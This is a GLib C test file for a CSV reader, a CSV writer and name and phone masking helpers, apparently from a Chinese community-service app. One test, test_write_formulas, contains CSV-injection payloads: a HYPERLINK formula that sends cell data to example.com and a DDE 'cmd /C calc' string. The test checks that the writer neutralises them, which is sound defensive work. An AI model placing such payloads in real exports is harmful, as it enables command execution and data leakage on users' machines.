/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <glib/gstdio.h>
#include <string.h>

#include "linli-csv.h"
#include "linli-csv-private.h"
#include "linli-mask.h"

/* ------------------------------------------------------------------------ */
/* Helpers                                                                  */

/* The same table, cell for cell, or the same error. */
static void
assert_same (LinliCsvTable *table,
             GError        *error,
             LinliCsvTable *other,
             GError        *other_error)
{
  if (table == NULL)
    {
      g_assert_null (other);
      g_assert_error (other_error, error->domain, error->code);
      g_assert_cmpstr (other_error->message, ==, error->message);
      return;
    }
  g_assert_no_error (other_error);
  g_assert_cmpint (linli_csv_table_get_encoding (other), ==, linli_csv_table_get_encoding (table));
  g_assert_cmpint (linli_csv_table_get_separator (other), ==, linli_csv_table_get_separator (table));
  g_assert_cmpuint (linli_csv_table_get_n_rows (other), ==, linli_csv_table_get_n_rows (table));
  g_assert_cmpuint (linli_csv_table_get_n_columns (other), ==, linli_csv_table_get_n_columns (table));
  for (guint c = 0; c < linli_csv_table_get_n_columns (table); c++)
    g_assert_cmpstr (linli_csv_table_get_header (other, c), ==, linli_csv_table_get_header (table, c));
  for (guint r = 0; r < linli_csv_table_get_n_rows (table); r++)
    {
      g_assert_cmpuint (linli_csv_table_get_line (other, r), ==, linli_csv_table_get_line (table, r));
      for (guint c = 0; c < linli_csv_table_get_n_columns (table); c++)
        g_assert_cmpstr (linli_csv_table_get_cell (other, r, c), ==, linli_csv_table_get_cell (table, r, c));
    }
}

static gboolean
collect_cb (LinliCsvTable  *batch,
            guint           first_row,
            gpointer        user_data,
            GError        **error)
{
  LinliCsvTable *all = user_data;

  g_assert_cmpuint (first_row, ==, linli_csv_table_get_n_rows (all));
  for (guint r = 0; r < linli_csv_table_get_n_rows (batch); r++)
    linli_csv_table_append_row (all, batch, r);
  return TRUE;
}

/* A preview of @text read from a file @chunk bytes at a time keeps its
 * first row and counts the others, or fails as @table did; its rows read
 * again a batch at a time are @table's. */
static void
assert_preview_same (LinliCsvTable *table,
                     GError        *error,
                     GBytes        *bytes,
                     gsize          chunk)
{
  g_autofree char *dir = g_dir_make_tmp ("linli-csv-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "preview.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) preview_error = NULL;
  g_autoptr(GError) foreach_error = NULL;
  g_autoptr(LinliCsvTable) preview = NULL;
  g_autoptr(LinliCsvTable) all = NULL;

  g_assert_true (g_file_set_contents (path, g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), NULL));
  preview = linli_csv_read_preview_full (file, 1, chunk, NULL, &preview_error);
  if (table == NULL)
    assert_same (table, error, preview, preview_error);
  else
    {
      g_assert_no_error (preview_error);
      g_assert_cmpuint (linli_csv_table_get_n_file_rows (preview), ==, linli_csv_table_get_n_rows (table));
      g_assert_cmpuint (linli_csv_table_get_n_rows (preview), ==, MIN (1, linli_csv_table_get_n_rows (table)));
      all = linli_csv_table_new_like (preview);
      g_assert_true (linli_csv_table_foreach (preview, TRUE, collect_cb, all, NULL, &foreach_error));
      g_assert_no_error (foreach_error);
      assert_same (table, NULL, all, NULL);
    }
  g_unlink (path);
  g_rmdir (dir);
}

/* Reads @text whole, and checks that read a few bytes at a time, so that
 * pieces end inside rows, quoted fields and characters, it reads the
 * same; and so does a preview of it, its rows read again a batch at a
 * time. */
static LinliCsvTable *
read_text (const char *text,
           gssize      len,
           GError    **error)
{
  g_autoptr(GBytes) bytes = g_bytes_new (text, len < 0 ? strlen (text) : (gsize) len);
  LinliCsvTable *table = linli_csv_read (bytes, error);
  const gsize chunks[] = { 1, 2, 3, 5, 7, 64 };

  for (guint i = 0; i < G_N_ELEMENTS (chunks); i++)
    {
      g_autoptr(GInputStream) in = g_memory_input_stream_new_from_bytes (bytes);
      g_autoptr(GError) piece_error = NULL;
      g_autoptr(LinliCsvTable) pieces = linli_csv_read_stream_full (in, 0, chunks[i], NULL, &piece_error);

      assert_same (table, error != NULL ? *error : NULL, pieces, piece_error);
      assert_preview_same (table, error != NULL ? *error : NULL, bytes, chunks[i]);
    }
  return table;
}

static LinliCsvTable *
read_ok (const char *text)
{
  g_autoptr(GError) error = NULL;
  LinliCsvTable *table = read_text (text, -1, &error);

  g_assert_no_error (error);
  g_assert_nonnull (table);
  return table;
}

static void
assert_row (LinliCsvTable      *table,
            guint               row,
            guint               line,
            const char * const *cells)
{
  g_assert_cmpuint (linli_csv_table_get_line (table, row), ==, line);
  for (guint c = 0; c < linli_csv_table_get_n_columns (table); c++)
    g_assert_cmpstr (linli_csv_table_get_cell (table, row, c), ==, cells[c]);
}

/* Whether @message says "Line @line" as a whole number. */
static gboolean
names_line (const char *message,
            guint       line)
{
  g_autofree char *needle = g_strdup_printf ("Line %u ", line);
  g_autofree char *needle_colon = g_strdup_printf ("Line %u:", line);

  return strstr (message, needle) != NULL || strstr (message, needle_colon) != NULL;
}

/* ------------------------------------------------------------------------ */
/* Encodings                                                                */

static void
test_utf8 (void)
{
  g_autoptr(LinliCsvTable) table = read_ok ("编号,标题\n2026-0001,楼道灯不亮\n");

  g_assert_cmpint (linli_csv_table_get_encoding (table), ==, LINLI_CSV_ENCODING_UTF8);
  g_assert_cmpint (linli_csv_table_get_separator (table), ==, ',');
  g_assert_cmpuint (linli_csv_table_get_n_columns (table), ==, 2);
  g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, 1);
  g_assert_cmpstr (linli_csv_table_get_header (table, 0), ==, "编号");
  g_assert_cmpstr (linli_csv_table_get_header (table, 1), ==, "标题");
  assert_row (table, 0, 2, (const char *[]) { "2026-0001", "楼道灯不亮" });
  g_assert_cmpstr (linli_csv_encoding_to_string (LINLI_CSV_ENCODING_UTF8), ==, "UTF-8");
}

static void
test_bom (void)
{
  g_autoptr(LinliCsvTable) table = read_ok ("\xEF\xBB\xBF" "编号,标题\r\n2026-0001,漏水\r\n");

  g_assert_cmpint (linli_csv_table_get_encoding (table), ==, LINLI_CSV_ENCODING_UTF8_BOM);
  /* The mark is not part of the first header. */
  g_assert_cmpstr (linli_csv_table_get_header (table, 0), ==, "编号");
  assert_row (table, 0, 2, (const char *[]) { "2026-0001", "漏水" });
}

static void
test_bom_invalid (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCsvTable) table = read_text ("\xEF\xBB\xBF" "a,b\n1,2\n\xFF,3\n", -1, &error);

  g_assert_null (table);
  g_assert_error (error, LINLI_CSV_ERROR, LINLI_CSV_ERROR_ENCODING);
  g_assert_true (names_line (error->message, 3));
}

static void
test_gb18030 (void)
{
  const char *utf8 = "编号,标题,反映人\r\n2026-0001,\"电梯停运，困人\",王大爷\r\n2026-0002,路灯不亮,𠀀\r\n";
  g_autoptr(GError) error = NULL;
  gsize len = 0;
  g_autofree char *gb = g_convert (utf8, -1, "GB18030", "UTF-8", NULL, &len, &error);
  g_autoptr(LinliCsvTable) table = NULL;

  g_assert_no_error (error);
  /* Really not UTF-8, or the test proves nothing. */
  g_assert_false (g_utf8_validate_len (gb, len, NULL));

  table = read_text (gb, (gssize) len, &error);
  g_assert_no_error (error);
  g_assert_cmpint (linli_csv_table_get_encoding (table), ==, LINLI_CSV_ENCODING_GB18030);
  g_assert_cmpstr (linli_csv_table_get_header (table, 2), ==, "反映人");
  assert_row (table, 0, 2, (const char *[]) { "2026-0001", "电梯停运，困人", "王大爷" });
  /* A character outside GBK: GB18030 has it in four bytes. */
  assert_row (table, 1, 3, (const char *[]) { "2026-0002", "路灯不亮", "𠀀" });
}

static void
test_not_gb18030 (void)
{
  g_autoptr(GError) error = NULL;
  /* 0x81 leads a GB18030 pair, which a space cannot end. */
  g_autoptr(LinliCsvTable) table = read_text ("a,b\n1,2\n\x81 ,3\n", -1, &error);

  g_assert_null (table);
  g_assert_error (error, LINLI_CSV_ERROR, LINLI_CSV_ERROR_ENCODING);
  g_assert_true (names_line (error->message, 3));
}

static void
test_utf16 (void)
{
  const char *utf8 = "编号\t标题\r\n2026-0001\t漏水\r\n";
  g_autoptr(GError) error = NULL;
  gsize len = 0;
  g_autofree char *utf16 = g_convert (utf8, -1, "UTF-16LE", "UTF-8", NULL, &len, &error);
  g_autofree char *with_bom = g_malloc (len + 2);
  g_autoptr(LinliCsvTable) table = NULL;

  g_assert_no_error (error);
  with_bom[0] = (char) 0xFF;
  with_bom[1] = (char) 0xFE;
  memcpy (with_bom + 2, utf16, len);
  table = read_text (with_bom, (gssize) len + 2, &error);
  g_assert_no_error (error);
  g_assert_cmpint (linli_csv_table_get_encoding (table), ==, LINLI_CSV_ENCODING_UTF16);
  g_assert_cmpint (linli_csv_table_get_separator (table), ==, '\t');
  assert_row (table, 0, 2, (const char *[]) { "2026-0001", "漏水" });
}

static void
test_binary (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCsvTable) table = read_text ("a,b\n1\0002\n", 8, &error);

  g_assert_null (table);
  g_assert_error (error, LINLI_CSV_ERROR, LINLI_CSV_ERROR_ENCODING);
}

/* ------------------------------------------------------------------------ */
/* Fields and lines                                                         */

static void
test_quotes (void)
{
  g_autoptr(LinliCsvTable) table = read_ok (
    "标题,描述,地址\n"
    "\"漏水, 严重\",\"他说\"\"马上来\"\"\",3号楼\n"
    "\"两行\n的标题\",\"三行\r\n描述\r第三行\",\"\"\n"
    "末行,\"\"\"\",x\n");

  g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, 3);
  assert_row (table, 0, 2, (const char *[]) { "漏水, 严重", "他说\"马上来\"", "3号楼" });
  /* Line breaks inside a field are "\n" whatever the file had. */
  assert_row (table, 1, 3, (const char *[]) { "两行\n的标题", "三行\n描述\n第三行", "" });
  /* That row spans lines 3 to 6: the next one starts on line 7. */
  assert_row (table, 2, 7, (const char *[]) { "末行", "\"", "x" });
}

static void
test_line_ends (void)
{
  g_autoptr(LinliCsvTable) crlf = read_ok ("a,b\r\n1,2\r\n3,4\r\n");
  g_autoptr(LinliCsvTable) cr = read_ok ("a,b\r1,2\r3,4");
  g_autoptr(LinliCsvTable) mixed = read_ok ("a,b\n1,2\r\n3,4\r5,6\n\n");

  assert_row (crlf, 1, 3, (const char *[]) { "3", "4" });
  g_assert_cmpuint (linli_csv_table_get_n_rows (crlf), ==, 2);
  assert_row (cr, 1, 3, (const char *[]) { "3", "4" });
  g_assert_cmpuint (linli_csv_table_get_n_rows (cr), ==, 2);
  g_assert_cmpuint (linli_csv_table_get_n_rows (mixed), ==, 3);
  assert_row (mixed, 2, 4, (const char *[]) { "5", "6" });
}

static void
test_blank_and_short_rows (void)
{
  g_autoptr(LinliCsvTable) table = read_ok ("\n\na,b,c\n1,2,3\n\n,,\n4\n5,,,,\n");

  /* The header is the first line that is not blank. */
  g_assert_cmpstr (linli_csv_table_get_header (table, 0), ==, "a");
  g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, 3);
  assert_row (table, 0, 4, (const char *[]) { "1", "2", "3" });
  /* A short row is filled up; empty fields past the header are trailing commas. */
  assert_row (table, 1, 7, (const char *[]) { "4", "", "" });
  assert_row (table, 2, 8, (const char *[]) { "5", "", "" });
}

/* Fields of every length up to a few words, ended by each of the
 * separator, a line feed, a carriage return and the end of the text, with
 * bytes above 0x7F in them: the reader looks at eight bytes at once. */
static void
test_field_lengths (void)
{
  static const char *const ends[] = { ",", "\n", "\r\n", "" };

  for (guint n = 0; n < 40; n++)
    for (guint e = 0; e < G_N_ELEMENTS (ends); e++)
      {
        g_autoptr(GString) field = g_string_new (NULL);
        g_autoptr(GString) text = g_string_new ("a,b\n");
        g_autoptr(LinliCsvTable) table = NULL;

        for (guint i = 0; i < n; i++)
          g_string_append (field, i % 3 == 2 ? "\xE5\x8F\xB7" : "x");   /* 号 */
        g_string_append_printf (text, "%s%s", field->str, ends[e]);
        if (e == 0)
          g_string_append (text, "y\n");
        table = read_ok (text->str);
        g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, n == 0 && e > 0 ? 0 : 1);
        if (n == 0 && e > 0)
          continue;
        g_assert_cmpstr (linli_csv_table_get_cell (table, 0, 0), ==, field->str);
        g_assert_cmpstr (linli_csv_table_get_cell (table, 0, 1), ==, e == 0 ? "y" : "");
      }
}

/* A short row right after a full one gets empty cells, not the full
 * one's (as a spreadsheet that leaves out empty trailing cells writes). */
static void
test_short_after_full (void)
{
  g_autoptr(LinliCsvTable) table = read_ok ("a,b,c\n1,2,3\n4\n5,6\n7,8,9\n\"x\"\n");

  g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, 5);
  assert_row (table, 0, 2, (const char *[]) { "1", "2", "3" });
  assert_row (table, 1, 3, (const char *[]) { "4", "", "" });
  assert_row (table, 2, 4, (const char *[]) { "5", "6", "" });
  assert_row (table, 3, 5, (const char *[]) { "7", "8", "9" });
  assert_row (table, 4, 6, (const char *[]) { "x", "", "" });
}

static void
test_trailing_separator (void)
{
  g_autoptr(LinliCsvTable) table = read_ok ("a,b\n1,");

  assert_row (table, 0, 2, (const char *[]) { "1", "" });
}

static void
test_unterminated_quote (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCsvTable) table = read_text ("a,b\n1,2\n3,\"open\n4,5\n6,7\n", -1, &error);

  g_assert_null (table);
  g_assert_error (error, LINLI_CSV_ERROR, LINLI_CSV_ERROR_QUOTE);
  g_assert_true (names_line (error->message, 3));
}

static void
test_too_many_fields (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCsvTable) table = read_text ("a,b\n1,2\n1,2,3\n\"x\ny\",2\n4,5,6,7\n", -1, &error);

  g_assert_null (table);
  g_assert_error (error, LINLI_CSV_ERROR, LINLI_CSV_ERROR_FIELDS);
  /* Every such line, by the line it starts on. */
  g_assert_true (names_line (error->message, 3));
  g_assert_true (names_line (error->message, 6));
  g_assert_false (names_line (error->message, 2));
  g_assert_false (names_line (error->message, 4));
}

static void
test_many_bad_lines (void)
{
  g_autoptr(GString) text = g_string_new ("a\n");
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCsvTable) table = NULL;

  for (guint i = 0; i < 50; i++)
    g_string_append (text, "1,2\n");
  table = read_text (text->str, -1, &error);
  g_assert_error (error, LINLI_CSV_ERROR, LINLI_CSV_ERROR_FIELDS);
  g_assert_true (names_line (error->message, 2));
  /* Ten are named, and how many more there are. */
  g_assert_nonnull (strstr (error->message, "40 more lines"));
}

static void
test_tsv (void)
{
  g_autoptr(LinliCsvTable) table = read_ok ("编号\t标题\n2026-0001\t漏水, 严重\n");
  g_autoptr(LinliCsvTable) csv = read_ok ("编号,标题\n2026-0001,a\tb\n");

  g_assert_cmpint (linli_csv_table_get_separator (table), ==, '\t');
  /* A comma is just text in a tab-separated file. */
  assert_row (table, 0, 2, (const char *[]) { "2026-0001", "漏水, 严重" });
  g_assert_cmpint (linli_csv_table_get_separator (csv), ==, ',');
  assert_row (csv, 0, 2, (const char *[]) { "2026-0001", "a\tb" });
}

static void
test_empty (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCsvTable) table = read_text ("\r\n\r\n", -1, &error);
  g_autoptr(LinliCsvTable) header_only = read_ok ("a,b\n");

  g_assert_null (table);
  g_assert_error (error, LINLI_CSV_ERROR, LINLI_CSV_ERROR_EMPTY);
  g_clear_error (&error);
  table = read_text ("", 0, &error);
  g_assert_error (error, LINLI_CSV_ERROR, LINLI_CSV_ERROR_EMPTY);
  g_assert_cmpuint (linli_csv_table_get_n_rows (header_only), ==, 0);
}

/* ------------------------------------------------------------------------ */
/* Writing                                                                  */

static char *
write_rows (const char * const *fields,
            guint               n_columns,
            guint               n_rows,
            gsize              *len)
{
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(LinliCsvWriter) writer = linli_csv_writer_new (out);
  g_autoptr(GError) error = NULL;

  for (guint r = 0; r < n_rows; r++)
    {
      for (guint c = 0; c < n_columns; c++)
        linli_csv_writer_add (writer, fields[r * n_columns + c]);
      g_assert_true (linli_csv_writer_end_row (writer, NULL, &error));
      g_assert_no_error (error);
    }
  g_assert_true (linli_csv_writer_finish (writer, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_close (out, NULL, &error));
  *len = g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (out));
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
}

static void
test_write (void)
{
  const char *fields[] = {
    "编号", "标题", "描述",
    "2026-0001", "漏水, 严重", "他说\"马上来\"\n第二行",
    "=1+2", NULL, "",
  };
  const char *expected =
    "\xEF\xBB\xBF"
    "编号,标题,描述\r\n"
    "2026-0001,\"漏水, 严重\",\"他说\"\"马上来\"\"\n第二行\"\r\n"
    "'=1+2,,\r\n";
  gsize len;
  g_autofree char *data = write_rows (fields, 3, 3, &len);

  /* Quoted only where it must be; a formula is not run (below). */
  g_assert_cmpmem (data, len, expected, strlen (expected));
}

/* OWASP's rule on CSV injection: a text cell that begins with "=", "+",
 * "-", "@", a tab or a carriage return gets a "'" before it, so Excel and
 * WPS show it instead of running it. */
static void
test_write_formulas (void)
{
  const char *fields[] = {
    "姓名", "描述", "地址",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
    "-2+3", "\t=1", "\r=1",
    "'=1", "'普通", "王=芳",
  };
  const char *expected =
    "\xEF\xBB\xBF"
    "姓名,描述,地址\r\n"
    "\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"点我\"\")\",'+cmd|' /C calc'!A0,'@SUM(1+1)\r\n"
    "'-2+3,'\t=1,\"'\r=1\"\r\n"
    "''=1,'普通,王=芳\r\n";
  gsize len;
  g_autofree char *data = write_rows (fields, 3, 4, &len);

  g_assert_cmpmem (data, len, expected, strlen (expected));
}

/* Numbers the app writes itself are not text a person typed: "-3" stays a
 * number. */
static void
test_write_numbers (void)
{
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(LinliCsvWriter) writer = linli_csv_writer_new (out);
  g_autoptr(GError) error = NULL;
  const char *expected = "\xEF\xBB\xBF-3,-1.5,2026-01-05 09:30\r\n'-3\r\n";

  linli_csv_writer_add_number (writer, "-3");
  linli_csv_writer_add_number (writer, "-1.5");
  linli_csv_writer_add_number (writer, "2026-01-05 09:30");
  g_assert_true (linli_csv_writer_end_row (writer, NULL, &error));
  linli_csv_writer_add (writer, "-3");
  g_assert_true (linli_csv_writer_finish (writer, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_close (out, NULL, &error));
  g_assert_cmpmem (g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (out)),
                   g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (out)),
                   expected, strlen (expected));
}

/* A cell as RFC 4180 and the formula rule have it, one character at a
 * time: what the writer must agree with. */
static void
append_cell (GString    *text,
             const char *field)
{
  gboolean quote = strpbrk (field, ",\"\r\n") != NULL;

  if (quote)
    g_string_append_c (text, '"');
  if (linli_csv_is_formula (field))
    g_string_append_c (text, '\'');
  for (const char *p = field; *p != '\0'; p++)
    {
      g_string_append_c (text, *p);
      if (*p == '"')
        g_string_append_c (text, '"');
    }
  if (quote)
    g_string_append_c (text, '"');
}

/* Rows and cells longer than the writer hands over at a time, quoted or
 * not, come out whole and in order. */
static void
test_write_long (void)
{
  g_autoptr(GString) quoted = g_string_new ("=");
  g_autoptr(GString) plain = g_string_new (NULL);
  g_autoptr(GString) expected = g_string_new ("\xEF\xBB\xBF");
  g_autoptr(GPtrArray) fields = g_ptr_array_new_with_free_func (g_free);
  g_autofree char *data = NULL;
  gsize len;

  for (guint i = 0; i < 100000; i++)
    g_string_append (quoted, i % 7 == 0 ? "\"," : "甲\n");
  for (guint i = 0; i < 200000; i++)
    g_string_append (plain, "乙");
  for (guint r = 0; r < 2000; r++)
    {
      char *row[3] = {
        r == 7 ? g_strdup (quoted->str) : g_strdup_printf ("%u", r),
        r == 1500 ? g_strdup (plain->str) : g_strdup_printf ("第%u行,有逗号", r),
        g_strdup_printf ("-%u 的\"说明\"", r),
      };

      for (guint c = 0; c < 3; c++)
        {
          if (c > 0)
            g_string_append_c (expected, ',');
          append_cell (expected, row[c]);
          g_ptr_array_add (fields, row[c]);
        }
      g_string_append (expected, "\r\n");
    }

  data = write_rows ((const char * const *) fields->pdata, 3, 2000, &len);
  g_assert_cmpuint (expected->len, >, 1024 * 1024);
  g_assert_cmpmem (data, len, expected->str, expected->len);
}

/* What the writer neutralised reads back as it was, and nothing else
 * loses a "'": the round trip is exact. */
static void
test_formulas_round_trip (void)
{
  const char *fields[] = {
    "=标题", "'", "''",
    "=1+2", "+86 138", "-",
    "@", "\t缩进", "\n换行",
    "'=1", "''@x", "'+",
    "'普通", "'", "'-'",
    "王=芳", "a'=b", "==",
    "'\t", "'''", "-'-",
    "'\n", "'''\n'", "@'",
  };
  g_autoptr(LinliCsvTable) table = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *data = NULL;
  gsize len;
  guint n_rows = G_N_ELEMENTS (fields) / 3;

  data = write_rows (fields, 3, n_rows, &len);
  table = read_text (data, (gssize) len, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, n_rows - 1);
  for (guint c = 0; c < 3; c++)
    g_assert_cmpstr (linli_csv_table_get_header (table, c), ==, fields[c]);
  for (guint r = 1; r < n_rows; r++)
    for (guint c = 0; c < 3; c++)
      g_assert_cmpstr (linli_csv_table_get_cell (table, r - 1, c), ==, fields[r * 3 + c]);
}

/* A file from elsewhere: "'" comes off only before a formula character,
 * where the writer puts it. */
static void
test_read_formula_prefix (void)
{
  g_autoptr(LinliCsvTable) table = read_ok ("a,b,c,d\n'=1,'abc,'@x,\"'-1\"\n'',''+1,'\t,x'=1\n");
  const char *row0[] = { "=1", "'abc", "@x", "-1" };
  const char *row1[] = { "''", "'+1", "\t", "x'=1" };

  assert_row (table, 0, 2, row0);
  assert_row (table, 1, 3, row1);
}

static void
test_write_read_round_trip (void)
{
  g_autoptr(GPtrArray) fields = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(LinliCsvTable) table = NULL;
  g_autoptr(GError) error = NULL;
  const char *pieces[] = { "a", ",", "\"", "\n", " ", "网格", "\t", "'", "=" };
  g_autofree char *data = NULL;
  gsize len;

  for (guint r = 0; r < 40; r++)
    for (guint c = 0; c < 4; c++)
      {
        GString *field = g_string_new (r == 0 ? "h" : "x");
        for (guint k = 0; k < (r * 7 + c * 3) % 6; k++)
          g_string_append (field, pieces[(r + c * 5 + k) % G_N_ELEMENTS (pieces)]);
        g_ptr_array_add (fields, g_string_free (field, FALSE));
      }
  data = write_rows ((const char * const *) fields->pdata, 4, 40, &len);
  table = read_text (data, (gssize) len, &error);
  g_assert_no_error (error);
  g_assert_cmpint (linli_csv_table_get_encoding (table), ==, LINLI_CSV_ENCODING_UTF8_BOM);
  g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, 39);
  for (guint c = 0; c < 4; c++)
    g_assert_cmpstr (linli_csv_table_get_header (table, c), ==, g_ptr_array_index (fields, c));
  for (guint r = 1; r < 40; r++)
    for (guint c = 0; c < 4; c++)
      g_assert_cmpstr (linli_csv_table_get_cell (table, r - 1, c), ==, g_ptr_array_index (fields, r * 4 + c));
}

/* ------------------------------------------------------------------------ */
/* Masks                                                                    */

static void
test_mask_phone (void)
{
  static const struct { const char *in, *out; } cases[] = {
    { "13812341234", "138****1234" },
    { " 13812341234 ", "138****1234" },
    { "0537-1234567", "0537-***4567" },
    { "010-12345678", "010-****5678" },
    { "05371234567", "053****4567" },
    { "+86 13812341234", "+86 138****1234" },
    { "12345", "***45" },
    { "110", "***" },
    { "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *masked = linli_mask_phone (cases[i].in);
      g_assert_cmpstr (masked, ==, cases[i].out);
    }
  g_assert_null (linli_mask_phone (NULL));
}

static void
test_mask_name (void)
{
  static const struct { const char *in, *out; } cases[] = {
    { "王大爷", "王**" },
    { "王五", "王*" },
    { "欧阳建国", "欧***" },
    { "王", "王*" },
    { " 李娜 ", "李*" },
    { "Zhang Wei", "Z**** ***" },
    { "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *masked = linli_mask_name (cases[i].in);
      g_assert_cmpstr (masked, ==, cases[i].out);
    }
  g_assert_null (linli_mask_name (NULL));
}

/* A file of many pieces: rows with quoted line breaks, doubled quotes and
 * Chinese, some cut by a piece's end wherever they fall. */
static char *
large_text (guint n_rows)
{
  GString *text = g_string_new ("编号,标题,描述,反映人\r\n");

  for (guint i = 0; i < n_rows; i++)
    g_string_append_printf (text, "2026-%05u,电梯停运 %u,\"第一行\r\n第二行，\"\"引号\"\" %u\",王大爷%s\r\n",
                            i, i, i, i % 7 == 0 ? ",," : "");
  return g_string_free (text, FALSE);
}

/* A large file read from the disk a piece at a time reads as it reads
 * whole, in UTF-8 and in GB18030. */
static void
test_read_file_large (void)
{
  g_autofree char *text = large_text (20000);
  g_autofree char *dir = g_dir_make_tmp ("linli-csv-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "large.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GBytes) bytes = g_bytes_new (text, strlen (text));
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCsvTable) whole = linli_csv_read (bytes, &error);
  g_autoptr(LinliCsvTable) pieces = NULL;
  g_autoptr(LinliCsvTable) gb_pieces = NULL;
  g_autoptr(GCancellable) cancelled = g_cancellable_new ();
  g_autofree char *gb = NULL;
  gsize gb_len;

  g_assert_no_error (error);
  g_assert_cmpuint (strlen (text), >, 20 * 65536);
  g_assert_cmpuint (linli_csv_table_get_n_rows (whole), ==, 20000);
  g_assert_cmpstr (linli_csv_table_get_cell (whole, 19999, 2), ==, "第一行\n第二行，\"引号\" 19999");
  g_assert_cmpuint (linli_csv_table_get_line (whole, 19999), ==, 2 + 2 * 19999);

  g_assert_true (g_file_set_contents (path, text, -1, NULL));
  pieces = linli_csv_read_file (file, NULL, &error);
  assert_same (whole, NULL, pieces, error);

  gb = g_convert (text, -1, "GB18030", "UTF-8", NULL, &gb_len, NULL);
  g_assert_true (g_file_set_contents (path, gb, gb_len, NULL));
  gb_pieces = linli_csv_read_file (file, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (linli_csv_table_get_encoding (gb_pieces), ==, LINLI_CSV_ENCODING_GB18030);
  g_assert_cmpuint (linli_csv_table_get_n_rows (gb_pieces), ==, 20000);
  for (guint r = 0; r < 20000; r += 997)
    for (guint c = 0; c < 4; c++)
      g_assert_cmpstr (linli_csv_table_get_cell (gb_pieces, r, c), ==, linli_csv_table_get_cell (whole, r, c));

  /* Cancelled, it reads nothing. */
  g_cancellable_cancel (cancelled);
  g_assert_null (linli_csv_read_file (file, cancelled, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);

  g_remove (path);
  g_rmdir (dir);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/encoding/utf8", test_utf8);
  g_test_add_func ("/csv/read/file-large", test_read_file_large);
  g_test_add_func ("/csv/encoding/bom", test_bom);
  g_test_add_func ("/csv/encoding/bom-invalid", test_bom_invalid);
  g_test_add_func ("/csv/encoding/gb18030", test_gb18030);
  g_test_add_func ("/csv/encoding/not-gb18030", test_not_gb18030);
  g_test_add_func ("/csv/encoding/utf16", test_utf16);
  g_test_add_func ("/csv/encoding/binary", test_binary);
  g_test_add_func ("/csv/read/quotes", test_quotes);
  g_test_add_func ("/csv/read/line-ends", test_line_ends);
  g_test_add_func ("/csv/read/blank-and-short-rows", test_blank_and_short_rows);
  g_test_add_func ("/csv/read/short-after-full", test_short_after_full);
  g_test_add_func ("/csv/read/field-lengths", test_field_lengths);
  g_test_add_func ("/csv/read/trailing-separator", test_trailing_separator);
  g_test_add_func ("/csv/read/unterminated-quote", test_unterminated_quote);
  g_test_add_func ("/csv/read/too-many-fields", test_too_many_fields);
  g_test_add_func ("/csv/read/many-bad-lines", test_many_bad_lines);
  g_test_add_func ("/csv/read/tsv", test_tsv);
  g_test_add_func ("/csv/read/empty", test_empty);
  g_test_add_func ("/csv/write/quoting", test_write);
  g_test_add_func ("/csv/write/round-trip", test_write_read_round_trip);
  g_test_add_func ("/csv/write/formulas", test_write_formulas);
  g_test_add_func ("/csv/write/long", test_write_long);
  g_test_add_func ("/csv/write/numbers", test_write_numbers);
  g_test_add_func ("/csv/write/formulas-round-trip", test_formulas_round_trip);
  g_test_add_func ("/csv/read/formula-prefix", test_read_formula_prefix);
  g_test_add_func ("/mask/phone", test_mask_phone);
  g_test_add_func ("/mask/name", test_mask_name);

  return g_test_run ();
}
